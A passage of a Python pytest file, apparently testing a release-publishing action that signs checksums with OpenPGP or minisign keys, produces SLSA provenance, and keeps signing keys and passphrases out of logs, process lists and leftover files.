"""Signed releases, checked as someone who downloads them would: the real gpg, sqv and minisign verify
what the sandbox forge serves, and sha256sum checks the files the signed checksums file lists."""

from __future__ import annotations

import base64
import contextlib
import dataclasses
import json
import signal
import subprocess
import threading
import time
from pathlib import Path

import pytest
from conftest import FORGE_NAMES, GITVERSE_SHA, STEPS, download_release, stored
from signing_keys import (
    Key,
    gpg_verifies,
    minisign_key_with_limits,
    minisign_secret,
    minisign_signs,
    minisign_verifies,
    sqv_verifies,
)

from release_action.sandbox.state import Fault

FORGES = pytest.mark.parametrize("forge_name", FORGE_NAMES)


def signed(key: Key, **inputs: str) -> dict[str, str]:
    return {"checksums": "SHA256SUMS", "signing_key": key.secret, "signing_passphrase": key.passphrase or "", **inputs}


def downloaded(forge, forge_name: str, tmp_path: Path, label: str = "downloaded") -> Path:
    folder = tmp_path / label
    folder.mkdir()
    download_release(forge, forge_name, folder)
    return folder


def sha256sum(folder: Path, sums: str = "SHA256SUMS") -> subprocess.CompletedProcess:
    return subprocess.run(["sha256sum", "--strict", "-c", sums], cwd=folder, capture_output=True, text=True, timeout=60)


def tamper(path: Path) -> None:
    data = bytearray(path.read_bytes())
    data[len(data) // 2] ^= 0x01
    path.write_bytes(bytes(data))


@FORGES
@pytest.mark.parametrize("kind", ["ed25519", "rsa", "subkey", "bare"])
def test_an_openpgp_signed_release_verifies_with_gpg_and_sqv_as_a_downloader_would(
    publish, forge, tmp_path, pgp, forge_name, kind
):
    key = pgp[kind]

    run = publish(forge=forge_name, **signed(key))

    assert run.code == 0, run.log
    folder = downloaded(forge, forge_name, tmp_path)
    checked = gpg_verifies(folder, key, "SHA256SUMS.asc", "SHA256SUMS")
    assert checked.returncode == 0 and "VALIDSIG" in checked.stdout, checked.stdout + checked.stderr
    assert key.key_id in checked.stdout  # the primary key's fingerprint, also for a signing subkey
    assert sqv_verifies(folder, key, "SHA256SUMS.asc", "SHA256SUMS").returncode == 0
    assert sha256sum(folder).returncode == 0
    assert run.statuses() == {
        "tool-linux-amd64.tar.gz": "uploaded",
        "tool-windows-amd64.zip": "uploaded",
        "checksums.txt": "uploaded",
        "SHA256SUMS": "uploaded",
        "SHA256SUMS.asc": "uploaded",
        "release.intoto.jsonl": "uploaded",
    }
    assert run.json["signing_key_id"] == key.key_id
    assert f"RELEASE_SIGNING_KEY_ID={key.key_id}\n" in run.files["dotenv"]

    tamper(folder / "tool-linux-amd64.tar.gz")
    assert sha256sum(folder).returncode != 0
    tamper(folder / "SHA256SUMS.asc")
    assert gpg_verifies(folder, key, "SHA256SUMS.asc", "SHA256SUMS").returncode != 0
    assert sqv_verifies(folder, key, "SHA256SUMS.asc", "SHA256SUMS").returncode != 0


@FORGES
@pytest.mark.parametrize("kind", ["protected", "unencrypted"])
def test_a_minisign_signed_release_verifies_with_minisign_and_says_the_tag_and_file(
    publish, forge, tmp_path, minisign, forge_name, kind
):
    key = minisign[kind]

    run = publish(forge=forge_name, **signed(key))

    assert run.code == 0, run.log
    folder = downloaded(forge, forge_name, tmp_path)
    checked = minisign_verifies(folder, key, "SHA256SUMS.minisig", "SHA256SUMS")
    assert checked.returncode == 0, checked.stdout + checked.stderr
    assert "file:SHA256SUMS\ttag:v1.0.0" in checked.stdout  # the trusted comment, which the signature covers
    assert sha256sum(folder).returncode == 0
    assert run.statuses()["SHA256SUMS.minisig"] == "uploaded" and run.json["signing_key_id"] == key.key_id

    tamper(folder / "SHA256SUMS")
    assert minisign_verifies(folder, key, "SHA256SUMS.minisig", "SHA256SUMS").returncode != 0


@FORGES
def test_sign_files_all_signs_every_published_file(publish, forge, tmp_path, pgp, minisign, forge_name):
    key = pgp["ed25519"]

    run = publish(forge=forge_name, provenance="true", sign_files="all", **signed(key))

    assert run.code == 0, run.log
    folder = downloaded(forge, forge_name, tmp_path)
    published = [
        "checksums.txt",
        "tool-linux-amd64.tar.gz",
        "tool-windows-amd64.zip",
        "provenance.intoto.jsonl",
        "SHA256SUMS",
    ]
    assert sorted(stored(forge)) == sorted(published + [name + ".asc" for name in published] + ["release.intoto.jsonl"])
    for name in published:
        assert gpg_verifies(folder, key, name + ".asc", name).returncode == 0, name


@FORGES
@pytest.mark.parametrize("which", ["openpgp", "minisign"])
def test_a_rerun_leaves_the_signature_alone(publish, forge, pgp, minisign, forge_name, which):
    key = pgp["ed25519"] if which == "openpgp" else minisign["unencrypted"]
    first = publish(forge=forge_name, provenance="true", **signed(key))
    assert first.code == 0, first.log
    before, signatures = len(forge.calls()), stored(forge)

    run = publish(forge=forge_name, provenance="true", **signed(key))

    assert run.code == 0, run.log
    assert set(run.statuses().values()) == {"unchanged"}
    assert {method for method, _ in forge.calls()[before:]} == {"GET"}, "only looks, and downloads what it compares"
    assert stored(forge) == signatures


def test_changed_files_replace_the_checksums_and_signature_together(publish, forge, dist, tmp_path, pgp):
    key = pgp["ed25519"]
    assert publish(**signed(key)).code == 0
    (dist / "tool-windows-amd64.zip").write_bytes(b"a new build")

    run = publish(**signed(key))

    assert run.code == 0, run.log
    assert run.statuses()["SHA256SUMS"] == "replaced" and run.statuses()["SHA256SUMS.asc"] == "replaced"
    assert all(len(copies) == 1 for copies in stored(forge).values())
    folder = downloaded(forge, "gitflic", tmp_path)
    assert gpg_verifies(folder, key, "SHA256SUMS.asc", "SHA256SUMS").returncode == 0
    assert sha256sum(folder).returncode == 0


def test_a_signature_by_another_key_is_replaced(publish, forge, tmp_path, pgp):
    assert publish(**signed(pgp["rsa"])).code == 0

    run = publish(**signed(pgp["ed25519"]))

    assert run.code == 0, run.log
    assert run.statuses()["SHA256SUMS"] == "unchanged" and run.statuses()["SHA256SUMS.asc"] == "replaced"
    folder = downloaded(forge, "gitflic", tmp_path)
    assert gpg_verifies(folder, pgp["ed25519"], "SHA256SUMS.asc", "SHA256SUMS").returncode == 0


def test_sourcecraft_stops_before_any_change_when_a_signature_would_have_to_change(publish, forge, dist, pgp):
    assert publish(forge="sourcecraft", **signed(pgp["rsa"])).code == 0
    before, kept = len(forge.calls()), stored(forge)

    another_key = publish(forge="sourcecraft", **signed(pgp["ed25519"]))
    (dist / "tool-windows-amd64.zip").write_bytes(b"a new build")
    new_files = publish(forge="sourcecraft", files="tool-windows-amd64.zip", **signed(pgp["rsa"]))

    assert another_key.code == 1 and "SHA256SUMS.asc" in another_key.log, another_key.log
    assert new_files.code == 1 and "cannot" in new_files.log, new_files.log
    assert {method for method, _ in forge.calls()[before:]} == {"GET"}
    assert stored(forge) == kept


def test_on_sourcecraft_the_draft_is_published_only_once_signed(publish, forge, pgp):
    run = publish(forge="sourcecraft", **signed(pgp["ed25519"]))

    assert run.code == 0, run.log
    calls = [f"{method} {path}" for method, path in forge.calls()]
    publishing = next(i for i, call in enumerate(calls) if call.endswith("/publish"))
    uploads = [i for i, call in enumerate(calls) if call.startswith("POST") and call.endswith("/attachments")]
    assert len(uploads) == 6 and max(uploads) < publishing


@pytest.mark.parametrize("which", ["openpgp", "minisign"])
def test_a_dry_run_names_the_signatures_and_the_key_and_signs_nothing(publish, forge, pgp, minisign, which):
    key = pgp["ed25519"] if which == "openpgp" else minisign["unencrypted"]

    run = publish(dry_run="true", sign_files="all", provenance="true", **signed(key))

    assert run.code == 0, run.log
    suffix = ".asc" if which == "openpgp" else ".minisig"
    assert key.key_id in run.log and f"SHA256SUMS{suffix}" in run.log and f"checksums.txt{suffix}" in run.log
    assert "provenance.intoto.json" in run.log
    assert {method for method, _ in forge.calls()} == {"GET"} and forge.releases("acme/tool") == []


def test_the_notes_say_how_to_verify_once_and_their_commands_work(publish, forge, tmp_path, pgp, minisign):
    key = minisign["unencrypted"]
    assert publish(body="Fixes.", body_mode="append", signing_notes="true", **signed(key)).code == 0

    run = publish(body="Fixes.", body_mode="append", signing_notes="true", **signed(key))

    assert run.code == 0, run.log
    [release] = forge.releases("acme/tool")
    assert release.body.count("### Verifying this release") == 1 and key.key_id in release.body
    commands = release.body.split("```sh\n", 1)[1].split("```", 1)[0].strip().splitlines()
    assert commands[-1] == "sha256sum -c SHA256SUMS"
    folder = downloaded(forge, "gitflic", tmp_path)
    for command in commands:  # exactly what the notes tell a downloader to run
        done = subprocess.run(command, shell=True, cwd=folder, capture_output=True, text=True, timeout=60)
        assert done.returncode == 0, command + done.stdout + done.stderr
    tamper(folder / "SHA256SUMS")
    assert subprocess.run(commands[0], shell=True, cwd=folder, capture_output=True, timeout=60).returncode != 0


def test_openpgp_notes_give_the_fingerprint_and_the_public_key(publish, forge, pgp):
    key = pgp["ed25519"]

    run = publish(signing_notes="true", **signed(key))

    assert run.code == 0, run.log
    [release] = forge.releases("acme/tool")
    assert key.key_id in release.body and "gpg --verify SHA256SUMS.asc SHA256SUMS" in release.body
    block = release.body.split("<details><summary>Public key</summary>\n\n```\n", 1)[1].split("```", 1)[0]
    assert "-----BEGIN PGP PUBLIC KEY BLOCK-----" in block and "PRIVATE" not in release.body


def valid_provenance(text: str) -> dict:
    """The statement, read strictly by the in-toto-attestation models (an unknown field fails), and validated."""
    from google.protobuf import json_format
    from in_toto_attestation.predicates.provenance.v1 import provenance_pb2
    from in_toto_attestation.v1 import statement_pb2
    from in_toto_attestation.v1.statement import Statement

    document = json.loads(text)
    Statement.copy_from_pb(json_format.Parse(text, statement_pb2.Statement())).validate()
    json_format.ParseDict(document["predicate"], provenance_pb2.Provenance())
    return document


GITHUB_RUN = {
    "GITHUB_SERVER_URL": "https://github.com",
    "GITHUB_REPOSITORY": "acme/tool",
    "GITHUB_RUN_ID": "42",
    "GITHUB_RUN_ATTEMPT": "2",
    "GITHUB_SHA": "0123456789abcdef0123456789abcdef01234567",
    "GITHUB_WORKFLOW_REF": "acme/tool/.github/workflows/release.yml@refs/tags/v1.0.0",
    "GITHUB_REF": "refs/tags/v1.0.0",
}


@FORGES
def test_provenance_is_a_valid_statement_whose_subjects_are_the_release_files(
    publish, forge, tmp_path, pgp, forge_name
):
    # A GitHub run: GitVerse's commit is then given, as outside its own CI.
    commit = {"target_branch": GITVERSE_SHA} if forge_name == "gitverse" else {}
    run = publish(forge=forge_name, provenance="true", env=GITHUB_RUN, **commit, **signed(pgp["ed25519"]))

    assert run.code == 0, run.log
    folder = downloaded(forge, forge_name, tmp_path)
    envelope = json.loads((folder / "provenance.intoto.jsonl").read_text())
    assert envelope["payloadType"] == "application/vnd.in-toto+json"
    statement = valid_provenance(base64.b64decode(envelope["payload"]).decode())
    subjects = {subject["name"]: subject["digest"]["sha256"] for subject in statement["subject"]}
    own = ("provenance.intoto.jsonl", "SHA256SUMS", "SHA256SUMS.asc", "release.intoto.jsonl")
    published = {asset["name"]: asset["sha256"] for asset in run.json["assets"] if asset["name"] not in own}
    assert subjects == published
    assert statement["predicateType"] == "https://slsa.dev/provenance/v1"
    definition, details = statement["predicate"]["buildDefinition"], statement["predicate"]["runDetails"]
    assert definition["externalParameters"] == {
        "repository": "https://github.com/acme/tool",
        "tag": "v1.0.0",
        "workflow": {"path": "acme/tool/.github/workflows/release.yml", "ref": "refs/tags/v1.0.0"},
    }
    assert definition["resolvedDependencies"] == [
        {"uri": "git+https://github.com/acme/tool@refs/tags/v1.0.0", "digest": {"gitCommit": GITHUB_RUN["GITHUB_SHA"]}}
    ]
    assert details["builder"]["id"] == "https://github.com/acme/tool/actions/runs/42/attempts/2"
    assert details["metadata"]["invocationId"] == "https://github.com/acme/tool/actions/runs/42/attempts/2"
    assert set(details["metadata"]) == {"invocationId", "startedOn", "finishedOn"}
    assert "provenance.intoto.jsonl" in (folder / "SHA256SUMS").read_text()  # so the signature covers it
    assert sha256sum(folder).returncode == 0
    assert "gf-token" not in (folder / "provenance.intoto.jsonl").read_text()


@pytest.mark.parametrize(
    "ci",
    [
        {
            "CI_JOB_URL": "https://gitlab.example/acme/tool/-/jobs/7",
            "CI_PROJECT_URL": "https://gitlab.example/acme/tool",
            "CI_COMMIT_SHA": "89abcdef0123456789abcdef0123456789abcdef",
            "CI_CONFIG_PATH": ".gitlab-ci.yml",
            "CI_COMMIT_REF_NAME": "v1.0.0",
        },
        {
            "SOURCECRAFT_CI": "true",
            "SOURCECRAFT_REPO_URL": "https://sourcecraft.dev/acme/tool",
            "SOURCECRAFT_COMMIT_SHA": "fedcba9876543210fedcba9876543210fedcba98",
            "SOURCECRAFT_COMMIT_REF": "refs/tags/v1.0.0",
        },
    ],
    ids=["gitlab", "sourcecraft"],
)
def test_provenance_names_the_run_from_each_ci_systems_variables(publish, forge, tmp_path, ci):
    run = publish(forge="gitflic", provenance="true", checksums="SHA256SUMS", env=ci)

    assert run.code == 0, run.log
    folder = downloaded(forge, "gitflic", tmp_path)
    statement = valid_provenance((folder / "provenance.intoto.json").read_text())
    [dependency] = statement["predicate"]["buildDefinition"]["resolvedDependencies"]
    assert dependency["digest"]["gitCommit"] in ci.values()
    assert statement["predicate"]["runDetails"]["builder"]["id"] in ci.values()


@pytest.mark.parametrize(
    "runner",
    [{"GITEA_ACTIONS": "true"}, {"GITEA_ACTIONS": "true", "FORGEJO_ACTIONS": "true"}],
    ids=["gitea", "forgejo"],
)
def test_on_gitea_and_forgejo_actions_the_provenance_names_the_run_by_its_page(publish, forge, tmp_path, runner):
    # act_runner sets GitHub's variables; GITHUB_RUN_ID is the run's id across the whole instance.
    ci = {
        **GITHUB_RUN,
        "GITHUB_SERVER_URL": "https://git.example.org",
        "GITHUB_RUN_ID": "90412",
        "GITHUB_RUN_NUMBER": "7",
        **runner,
    }
    run = publish(forge="gitea", provenance="true", checksums="SHA256SUMS", env=ci)

    assert run.code == 0, run.log
    statement = valid_provenance((downloaded(forge, "gitea", tmp_path) / "provenance.intoto.json").read_text())
    details = statement["predicate"]["runDetails"]
    assert details["builder"]["id"] == "https://git.example.org/acme/tool/actions/runs/7"
    assert details["metadata"]["invocationId"] == "https://git.example.org/acme/tool/actions/runs/7"
    assert statement["predicate"]["buildDefinition"]["internalParameters"] == {"ci": "gitea"}


def test_a_rerun_later_keeps_the_provenance_and_a_new_file_makes_a_new_one(publish, forge, dist, tmp_path):
    assert publish(provenance="true", checksums="SHA256SUMS", env=GITHUB_RUN).code == 0
    first = downloaded(forge, "gitflic", tmp_path, "first")

    again = publish(provenance="true", checksums="SHA256SUMS", env={**GITHUB_RUN, "GITHUB_RUN_ATTEMPT": "3"})
    (dist / "notes.txt").write_text("more")
    grown = publish(provenance="true", checksums="SHA256SUMS", env=GITHUB_RUN)

    assert again.code == 0 and set(again.statuses().values()) == {"unchanged"}, again.log
    assert grown.code == 0 and grown.statuses()["provenance.intoto.json"] == "replaced", grown.log
    now = valid_provenance((downloaded(forge, "gitflic", tmp_path, "now") / "provenance.intoto.json").read_text())
    assert "notes.txt" in {subject["name"] for subject in now["subject"]}
    assert now != json.loads((first / "provenance.intoto.json").read_text())


def _damaged(text: str) -> str:
    lines = text.splitlines()
    middle = len(lines) // 2
    line = lines[middle]
    at = len(line) // 2
    lines[middle] = line[:at] + ("A" if line[at] != "A" else "B") + line[at + 1 :]
    return "\n".join(lines) + "\n"


MISTAKES = {
    "wrong passphrase": (
        lambda k: {**signed(k["ed25519"]), "signing_passphrase": "not-the-passphrase"},
        "passphrase is wrong",
    ),
    "no passphrase": (lambda k: {**signed(k["ed25519"]), "signing_passphrase": ""}, "set input 'signing_passphrase'"),
    "public key": (lambda k: {**signed(k["ed25519"]), "signing_key": k["ed25519"].public}, "only the public"),
    "cut key": (lambda k: {**signed(k["rsa"]), "signing_key": k["rsa"].secret[:900]}, "damaged"),
    "damaged key": (lambda k: {**signed(k["bare"]), "signing_key": _damaged(k["bare"].secret)}, "signing_key"),
    "expired key": (lambda k: signed(k["expired"]), "expired on 2020-01-02"),
    "encryption-only key": (lambda k: signed(k["encrypt_only"]), "no key that can sign"),
    "not a key": (lambda k: {**signed(k["ed25519"]), "signing_key": "hunter2-not-a-key"}, "not an armored"),
    "no checksums": (lambda k: {**signed(k["ed25519"]), "checksums": ""}, "input 'checksums' is empty"),
    "passphrase alone": (lambda k: {"checksums": "SHA256SUMS", "signing_passphrase": "x"}, "'signing_key' is empty"),
    "format disagrees": (lambda k: {**signed(k["ed25519"]), "signing_format": "minisign"}, "holds a openpgp key"),
    "notes without key": (lambda k: {"signing_notes": "true"}, "'signing_key' is empty"),
}


@pytest.mark.parametrize("mistake", list(MISTAKES))
def test_each_key_mistake_is_one_sentence_and_exit_2_before_any_request(publish, forge, pgp, mistake):
    inputs, said = MISTAKES[mistake]

    run = publish(**inputs(pgp))

    assert run.code == 2, run.log
    [error] = [line for line in run.log.splitlines() if line.startswith("::error::")]
    assert said in error and "Traceback" not in run.log
    assert forge.calls() == []


def _cut(text: str, keep: int) -> str:
    comment, line = text.splitlines()[:2]
    return f"{comment}\n{line[:keep]}\n"


MINISIGN_MISTAKES = {
    "wrong password": (
        lambda k: {**signed(k["protected"]), "signing_passphrase": "not-the-passphrase"},
        "the password is wrong",
    ),
    "public key": (lambda k: {**signed(k["unencrypted"]), "signing_key": k["unencrypted"].public}, "public key"),
    "damaged key": (
        lambda k: {**signed(k["unencrypted"]), "signing_key": _damaged(k["unencrypted"].secret)},
        "damaged",
    ),
    "damaged protected key": (
        lambda k: {**signed(k["protected"]), "signing_key": _damaged(k["protected"].secret)},
        "the password is wrong, or the key is damaged",
    ),
    "no password": (lambda k: {**signed(k["protected"]), "signing_passphrase": ""}, "set input 'signing_passphrase'"),
    "cut key": (
        lambda k: {**signed(k["protected"]), "signing_key": _cut(k["protected"].secret, 120)},
        "cut or damaged",
    ),
    "comment alone": (
        lambda k: {**signed(k["protected"]), "signing_key": _cut(k["protected"].secret, 0)},
        "cut or damaged",
    ),
    # Limits no minisign key has: scrypt would take a TiB, or 128 GiB of its p blocks, or days.
    "a TiB to derive": (lambda k: signed(_with_limits(k["protected"], 1 << 40, 1 << 40)), "MiB"),
    "huge p": (lambda k: signed(_with_limits(k["protected"], 1 << 63, 0)), "minisign -C"),
    "largest limits": (lambda k: signed(_with_limits(k["protected"], (1 << 64) - 1, (1 << 64) - 1)), "minisign -C"),
    "more work": (lambda k: signed(_with_limits(k["protected"], 5 << 25, 1 << 30)), "4 times"),
}


@pytest.mark.parametrize("mistake", list(MINISIGN_MISTAKES))
def test_each_minisign_key_mistake_is_one_sentence_and_exit_2_before_any_request(publish, forge, minisign, mistake):
    inputs, said = MINISIGN_MISTAKES[mistake]

    run = publish(**inputs(minisign))

    assert run.code == 2, run.log
    [error] = [line for line in run.log.splitlines() if line.startswith("::error::")]
    assert said in error and "Traceback" not in run.log, error
    assert forge.calls() == []


@pytest.mark.parametrize("which", ["openpgp", "minisign"])
def test_a_passphrase_for_a_key_that_has_none_is_a_warning_and_the_key_signs(
    publish, forge, tmp_path, pgp, minisign, which
):
    key = pgp["bare"] if which == "openpgp" else minisign["unencrypted"]
    suffix = ".asc" if which == "openpgp" else ".minisig"

    run = publish(**{**signed(key), "signing_passphrase": "a passphrase for nothing"})

    assert run.code == 0, run.log
    [warning] = [line for line in run.log.splitlines() if "signing_passphrase" in line]
    assert warning.startswith("::warning::") and "has no passphrase" in warning
    assert "a passphrase for nothing" not in run.log.replace("::add-mask::a passphrase for nothing", "")
    folder = downloaded(forge, "gitflic", tmp_path)
    verify = gpg_verifies if which == "openpgp" else minisign_verifies
    assert verify(folder, key, "SHA256SUMS" + suffix, "SHA256SUMS").returncode == 0


def test_a_passphrase_that_is_not_utf8_is_masked_and_judged_not_a_traceback(publish, forge, minisign):
    not_utf8 = "pass\udcff\udcfeword"  # the bytes pass\xff\xfeword, as Python reads such a variable

    run = publish(**{**signed(minisign["protected"]), "signing_passphrase": not_utf8})

    assert run.code == 2 and "Traceback" not in run.log, run.log
    assert "::add-mask::pass\\xff\\xfeword" in run.log.splitlines()
    [error] = [line for line in run.log.splitlines() if line.startswith("::error::")]
    assert "the password is wrong" in error and forge.calls() == []


@pytest.mark.parametrize("kind", ["protected", "unencrypted"])
def test_a_minisign_signature_is_byte_for_byte_the_one_minisign_makes(publish, forge, tmp_path, minisign, kind):
    key = minisign[kind]
    assert publish(**signed(key)).code == 0
    folder = downloaded(forge, "gitflic", tmp_path)
    ours = (folder / "SHA256SUMS.minisig").read_bytes()
    secret = tmp_path / "minisign.key"
    secret.write_text(key.secret)

    # Ed25519 signs deterministically: minisign, given the same file and trusted comment, writes the same bytes.
    comment = ours.split(b"\n")[2].removeprefix(b"trusted comment: ").decode()
    subprocess.run(
        [
            "minisign",
            "-S",
            "-s",
            str(secret),
            "-m",
            str(folder / "SHA256SUMS"),
            "-x",
            str(tmp_path / "theirs"),
            "-t",
            comment,
        ],
        input=f"{key.passphrase}\n" if key.passphrase else "",
        capture_output=True,
        text=True,
        timeout=120,
        check=True,
    )
    assert ours == (tmp_path / "theirs").read_bytes()


@pytest.mark.parametrize(
    "opslimit, memlimit",
    [
        (0, 0),  # below libsodium's least opslimit, and no memory: N = 2, p = 512
        (32768, 1 << 24),  # opslimit decides N (p = 1)
        (1 << 20, 1 << 16),  # memlimit decides N, opslimit p (64 and 512)
        (100_000, 3_333_333),  # neither a power of two
    ],
)
def test_a_key_with_other_scrypt_limits_unlocks_as_minisign_unlocks_it(
    publish, forge, tmp_path, minisign, opslimit, memlimit
):
    key = minisign_key_with_limits(minisign["protected"], tmp_path, opslimit, memlimit)
    secret = tmp_path / "limits.key"
    secret.write_text(key.secret)
    assert minisign_signs(secret, tmp_path, key.passphrase), "libsodium derives from these limits as the program does"

    run = publish(**signed(key))

    assert run.code == 0, run.log
    folder = downloaded(forge, "gitflic", tmp_path)
    assert minisign_verifies(folder, key, "SHA256SUMS.minisig", "SHA256SUMS").returncode == 0


def test_a_missing_ed25519_library_is_one_sentence(publish, forge, minisign, monkeypatch, tmp_path):
    import sys

    monkeypatch.setitem(sys.modules, "cryptography.hazmat.primitives.asymmetric.ed25519", None)
    monkeypatch.setenv("PATH", str(tmp_path))  # and no program to fall back on: none is needed

    run = publish(**signed(minisign["protected"]))

    assert run.code == 2 and "cryptography" in run.log and "pip install" in run.log, run.log
    assert "Traceback" not in run.log and forge.calls() == []


@pytest.mark.parametrize("form", ["base64", "file"])
def test_the_key_can_come_as_base64_or_as_a_file_gitlab_can_hold(publish, forge, tmp_path, pgp, form):
    import base64

    key = pgp["ed25519"]
    path = tmp_path / "signing.key"
    path.write_text(key.secret)
    given = base64.b64encode(key.secret.encode()).decode() if form == "base64" else str(path)

    run = publish(**{**signed(key), "signing_key": given})

    assert run.code == 0, run.log
    assert run.json["signing_key_id"] == key.key_id
    shown = [line for line in run.log.splitlines() if not line.startswith("::add-mask::")]
    assert not [line for line in shown if given in line or any(secret in line for secret in _key_lines(key))]


def _key_lines(key: Key) -> list[str]:
    from release_action.signing import secret_lines

    return secret_lines(key.secret)


@pytest.mark.parametrize("which", ["openpgp", "minisign"])
def test_the_key_and_passphrase_appear_nowhere_and_github_masks_every_line(publish, forge, pgp, minisign, which):
    key = pgp["ed25519"] if which == "openpgp" else minisign["protected"]

    run = publish(signing_notes="true", provenance="true", **signed(key))

    assert run.code == 0, run.log
    masks = {line.removeprefix("::add-mask::") for line in run.log.splitlines() if line.startswith("::add-mask::")}
    assert set(_key_lines(key)) <= masks and key.passphrase in masks  # GitHub masks line by line
    [release] = forge.releases("acme/tool")
    written = [line for line in run.log.splitlines() if not line.startswith("::add-mask::")]
    for text in [
        "\n".join(written),
        *run.files.values(),
        release.body,
        *(f.path.read_text("latin-1") for f in release.files),
    ]:
        for secret in [*_key_lines(key), key.passphrase]:
            assert secret not in text


def _program(forge, dist: Path, key: Key, tmp: Path, **popen) -> subprocess.Popen:
    """The program as CI starts it, in ``dist`` with TMPDIR ``tmp``, signing with ``key``."""
    import os
    import sys

    from conftest import REPOSITORY, TOKEN

    env = {
        "PATH": os.environ["PATH"],
        "TMPDIR": str(tmp),
        "INPUT_API_URL": forge.api_url("gitflic"),
        "INPUT_TOKEN": TOKEN,
        "INPUT_REPOSITORY": REPOSITORY,
        "INPUT_TAG_NAME": "v1.0.0",
        "INPUT_FILES": "*",
        "INPUT_WORKING_DIRECTORY": str(dist),
        "INPUT_CHECKSUMS": "SHA256SUMS",
        "INPUT_SIGNING_KEY": key.secret,
        "INPUT_SIGNING_PASSPHRASE": key.passphrase or "",
    }
    return subprocess.Popen(
        [sys.executable, "-m", "release_action"],
        env=env,
        cwd=dist,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
        **popen,
    )


def _children(pid: int) -> list[str]:
    """The command lines of the processes whose parent is ``pid``."""
    found = []
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and int((entry / "stat").read_text().rsplit(")", 1)[1].split()[1]) == pid:
                found.append((entry / "cmdline").read_bytes().replace(b"\0", b" ").decode("utf-8", "replace"))
        except (OSError, IndexError, ValueError):  # a process that ended meanwhile
            pass
    return found


def _resident_mib(pid: int) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) >> 10
    return 0


def test_a_minisign_key_signs_in_the_program_s_own_process_and_no_process_shows_it(forge, dist, tmp_path, minisign):
    key = minisign["protected"]  # its password derivation takes seconds: time to look at every process
    tmp = tmp_path / "tmp"
    tmp.mkdir()
    program = _program(forge, dist, key, tmp)
    commands, children, peak = [], [], 0
    try:
        for _ in range(2000):  # bounded: about 100 s at most
            children += _children(program.pid)
            with contextlib.suppress(OSError):
                commands.append((Path(f"/proc/{program.pid}") / "cmdline").read_text())
                peak = max(peak, _resident_mib(program.pid))
            if program.poll() is not None:
                break
            time.sleep(0.05)
        output, _ = program.communicate(timeout=60)
    finally:
        program.kill()
        program.wait()
    assert program.returncode == 0, output
    assert peak > 512, "the program itself derived the key from its password (scrypt over 1 GiB)"
    assert children == [], "no other program signs"
    for command in commands + children:
        for secret in [*_key_lines(key), key.passphrase]:
            assert secret not in command
    assert list(tmp.iterdir()) == []


def _with_limits(key: Key, opslimit: int, memlimit: int) -> Key:
    """``key`` with other scrypt limits written in it, its encrypted part left as it was."""
    import base64

    comment, line = key.secret.splitlines()[:2]
    raw = bytearray(base64.b64decode(line))
    raw[38:54] = opslimit.to_bytes(8, "little") + memlimit.to_bytes(8, "little")
    return dataclasses.replace(key, secret=f"{comment}\n{base64.b64encode(bytes(raw)).decode()}\n")


def test_sigterm_while_the_password_is_derived_stops_at_once_and_leaves_nothing(forge, dist, tmp_path, minisign):
    # Four times minisign's own work (p = 4): about four times the seconds of deriving a usual key.
    key = _with_limits(minisign["protected"], 4 << 25, 1 << 30)
    tmp = tmp_path / "tmp"
    tmp.mkdir()
    program = _program(forge, dist, key, tmp)
    try:
        for _ in range(400):  # until scrypt holds half its 1 GiB, 20 s at most
            if program.poll() is not None or _resident_mib(program.pid) > 512:
                break
            time.sleep(0.05)
        terminated = time.monotonic()
        program.send_signal(signal.SIGTERM)
        output, _ = program.communicate(timeout=60)
        stopped = time.monotonic() - terminated
    finally:
        program.kill()
        program.wait()
    assert program.returncode == 130, output
    assert stopped < 5, f"stopped {stopped:.1f} s after SIGTERM, as if the derivation had to finish first"
    assert "Traceback" not in output
    assert list(tmp.iterdir()) == []
    assert forge.calls() == []


#: Where a run is stopped, all after its key was read: the GitFlic step whose answer is held, and which of its requests.
KILL_POINTS = {
    "its first request": ("list", 1),
    "a file's upload": ("upload", 1),
    "the signature's upload": ("upload", 2),
}  # GitFlic takes several files a request: the three files, then SHA256SUMS with its signature


def _cores_on() -> None:
    """As on a runner that keeps core dumps: a crash writes the process's memory to ./core."""
    import resource

    with contextlib.suppress(ValueError):  # raising the hard limit takes root; without it, the control below skips
        resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))


def _require_core_dumps(folder: Path) -> None:
    import sys

    folder.mkdir()
    subprocess.run([sys.executable, "-c", "import os; os.abort()"], cwd=folder, preexec_fn=_cores_on, timeout=60)
    if not list(folder.glob("core*")):
        pytest.skip("this machine writes no core dump into a crashed process's working directory")


# SIGKILL: a runner's time limit, the OOM killer; SIGABRT: a crash, with core dumps kept.
@pytest.mark.parametrize(
    "kind, point, how",
    [
        *(("protected", point, signal.SIGKILL) for point in KILL_POINTS),
        ("unencrypted", "a file's upload", signal.SIGKILL),
        ("protected", "a file's upload", signal.SIGABRT),
    ],
)
def test_a_killed_or_crashed_run_leaves_no_key_that_signs_without_the_password(
    forge, dist, tmp_path, minisign, kind, point, how
):
    key = minisign[kind]
    secret, unlocked = minisign_secret(key, tmp_path)
    assert minisign_signs(tmp_path / "unlocked.key", tmp_path), "the check finds an unlocked key"
    if how == signal.SIGABRT:
        _require_core_dumps(tmp_path / "control")
    tmp = tmp_path / "tmp"
    tmp.mkdir()
    step, nth = KILL_POINTS[point]
    held, stopped = [], threading.Event()

    def stop_at_the_nth():
        held.append(step)
        if len(held) == nth:
            program.send_signal(how)
            program.wait(timeout=60)
            stopped.set()

    program = _program(forge, dist, key, tmp, preexec_fn=_cores_on)
    forge.inject(Fault("hold_answer", *STEPS["gitflic"][step], times=nth, during=stop_at_the_nth))
    try:
        output, _ = program.communicate(timeout=120)
    finally:
        program.kill()
        program.wait()

    assert stopped.wait(timeout=60) and program.returncode == -how, output
    left = [path for folder in (tmp, dist) for path in sorted(folder.rglob("*")) if path.is_file()]
    for path in left:
        data = path.read_bytes()
        assert secret[:32] not in data and unlocked.splitlines()[1].encode() not in data, f"{path} holds the key"
        assert not minisign_signs(path, tmp_path), f"minisign signs with {path}, no password asked"


@pytest.mark.parametrize("which", ["openpgp", "minisign"])
def test_an_empty_file_is_signed_and_its_signature_verifies(publish, forge, dist, tmp_path, pgp, minisign, which):
    key = pgp["bare"] if which == "openpgp" else minisign["unencrypted"]
    suffix = ".asc" if which == "openpgp" else ".minisig"
